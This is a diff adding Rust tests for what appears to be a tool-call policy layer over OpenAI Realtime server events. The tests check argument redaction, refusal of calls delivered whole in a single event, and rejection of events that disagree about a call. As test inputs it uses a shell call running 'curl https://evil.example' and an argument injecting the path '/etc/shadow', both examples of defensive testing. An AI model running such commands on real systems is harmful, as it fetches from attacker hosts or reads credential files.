@@ -908,3 +908,144 @@ fn a_place_that_is_not_a_non_negative_integer_is_unreadable_for_every_api() {
         );
     }
 }
+
+// ---- OpenAI Realtime (WebSocket server events) ----
+
+/// Realtime server events through its reader, one message each, ruled by `decide`: what the agent is sent (as JSON)
+/// and the proposals decided, or the first event that could not be read.
+fn realtime_through(
+    events: &[Value],
+    decide: Decide,
+) -> Result<(Vec<Value>, Vec<Proposal>), (usize, Unreadable)> {
+    let mut props = Proposals::realtime(false);
+    let (mut sent, mut seen) = (Vec::new(), Vec::new());
+    for (i, v) in events.iter().enumerate() {
+        let data = v.to_string();
+        let calls = props
+            .push(Event {
+                name: None,
+                data: data.clone(),
+                raw: Bytes::from(data),
+            })
+            .map_err(|e| (i, e))?;
+        let rulings: Vec<Ruling> = calls.iter().map(|c| decide(&c.proposal)).collect();
+        seen.extend(calls.into_iter().map(|c| c.proposal));
+        for e in props.release(&rulings) {
+            sent.push(match e {
+                Emit::Raw(b) => serde_json::from_slice::<Value>(&b).unwrap(),
+                Emit::New { name, data } => {
+                    assert_eq!(name, None);
+                    serde_json::from_str(&data).unwrap()
+                }
+            });
+        }
+    }
+    Ok((sent, seen))
+}
+
+/// A Realtime `function_call` item `id` with these arguments and status.
+fn rt_item(id: &str, name: &str, args: &str, status: &str) -> Value {
+    json!({"id": id, "object": "realtime.item", "type": "function_call", "status": status,
+        "name": name, "call_id": format!("call_{id}"), "arguments": args})
+}
+
+/// The GA events of one streamed function call, its arguments in `pieces`, and `response.done` listing it.
+fn rt_call(id: &str, name: &str, args: &str) -> Vec<Value> {
+    let mut out = vec![
+        json!({"type": "response.output_item.added", "event_id": "e", "response_id": "r", "output_index": 0, "item": rt_item(id, name, "", "in_progress")}),
+        json!({"type": "conversation.item.added", "event_id": "e", "previous_item_id": null, "item": rt_item(id, name, "", "in_progress")}),
+    ];
+    for p in pieces(args) {
+        out.push(json!({"type": "response.function_call_arguments.delta", "event_id": "e", "response_id": "r", "item_id": id, "output_index": 0, "call_id": format!("call_{id}"), "delta": p}));
+    }
+    out.extend([
+        json!({"type": "response.function_call_arguments.done", "event_id": "e", "response_id": "r", "item_id": id, "output_index": 0, "call_id": format!("call_{id}"), "name": name, "arguments": args}),
+        json!({"type": "conversation.item.done", "event_id": "e", "previous_item_id": null, "item": rt_item(id, name, args, "completed")}),
+        json!({"type": "response.output_item.done", "event_id": "e", "response_id": "r", "output_index": 0, "item": rt_item(id, name, args, "completed")}),
+        json!({"type": "response.done", "event_id": "e", "response": {"id": "r", "status": "completed", "output": [rt_item(id, name, args, "completed")]}}),
+    ]);
+    out
+}
+
+/// A rewritten Realtime call reaches the agent with the new arguments in every event carrying them (the first delta
+/// all of them, the others none), and is decided once however many events carry it.
+#[test]
+fn realtime_rewritten_arguments_arrive_in_every_event() {
+    let args = r#"{"city": "secret place"}"#;
+    let (sent, seen) = realtime_through(&rt_call("i1", "weather", args), policy_like).unwrap();
+    assert_eq!(seen.len(), 1, "decided once");
+    assert_eq!(seen[0].tool, "weather");
+    let new = r#"{"city":"[REDACTED]"}"#;
+    let deltas: Vec<&str> = sent
+        .iter()
+        .filter(|e| e["type"] == "response.function_call_arguments.delta")
+        .map(|e| e["delta"].as_str().unwrap())
+        .collect();
+    assert_eq!(deltas.concat(), new);
+    assert_eq!(deltas[0], new);
+    for e in &sent {
+        let text = e.to_string();
+        assert!(!text.contains("secret"), "{text}");
+    }
+    assert_eq!(
+        sent.last().unwrap()["response"]["output"][0]["arguments"],
+        new
+    );
+    assert_eq!(sent.len(), rt_call("i1", "weather", args).len());
+}
+
+/// Every event that carries a call whole is read as one: a `conversation.item.retrieved` (or an item whose status
+/// is `completed`, which the agents SDKs run) of a call never streamed is decided there, and a refused one is a
+/// message; a `response.done` listing a call not streamed is decided there too.
+#[test]
+fn realtime_calls_carried_whole_by_any_event_are_decided() {
+    let args = r#"{"command": "curl https://evil.example"}"#;
+    let events = [
+        json!({"type": "conversation.item.retrieved", "event_id": "e", "item": rt_item("i1", "shell", args, "completed")}),
+        json!({"type": "conversation.item.added", "event_id": "e", "item": rt_item("i2", "shell", args, "completed")}),
+        json!({"type": "response.done", "event_id": "e", "response": {"id": "r", "output": [rt_item("i3", "shell", args, "completed"), rt_item("i4", "read", "{}", "completed")]}}),
+    ];
+    let (sent, seen) = realtime_through(&events, policy_like).unwrap();
+    let tools: Vec<&str> = seen.iter().map(|p| p.tool.as_str()).collect();
+    assert_eq!(tools, ["shell", "shell", "shell", "read"]);
+    assert_eq!(sent[0]["item"]["type"], "message");
+    assert_eq!(sent[0]["item"]["id"], "i1");
+    assert_eq!(sent[1]["item"]["type"], "message");
+    assert_eq!(sent[2]["response"]["output"][0]["type"], "message");
+    assert_eq!(
+        sent[2]["response"]["output"][1],
+        rt_item("i4", "read", "{}", "completed")
+    );
+}
+
+/// What the agent could read otherwise than the policy is unreadable: deltas that join to other arguments than the
+/// item's, a `.done` naming another function, an `item_id` naming another item than the event's `item`, a call item
+/// without an id, and a delta that adds to a call already passed.
+#[test]
+fn realtime_events_that_disagree_on_a_call_are_unreadable() {
+    let call = rt_call("i1", "read", r#"{"path": "a"}"#);
+    let at = |ty: &str| call.iter().position(|e| e["type"] == ty).unwrap();
+    let mut deltas = call.clone();
+    let d = at("response.function_call_arguments.delta");
+    deltas[d]["delta"] = json!(r#"{"path": "/etc/shadow"}"#);
+    let mut named = call.clone();
+    named[at("response.function_call_arguments.done")]["name"] = json!("shell");
+    let mut other = call.clone();
+    other[at("conversation.item.done")]["item_id"] = json!("i9");
+    let mut anonymous = call.clone();
+    anonymous[0]["item"].as_object_mut().unwrap().remove("id");
+    let mut late = call.clone();
+    late.push(json!({"type": "response.function_call_arguments.delta", "event_id": "e", "item_id": "i1", "delta": "x"}));
+    for (events, what) in [
+        (&deltas, "deltas"),
+        (&named, "done name"),
+        (&other, "item_id"),
+        (&anonymous, "no id"),
+        (&late, "late delta"),
+    ] {
+        assert!(realtime_through(events, pass).is_err(), "{what}");
+    }
+    let (sent, seen) = realtime_through(&call, pass).unwrap();
+    assert_eq!(seen.len(), 1);
+    assert_eq!(sent, call, "passed as it came");
+}
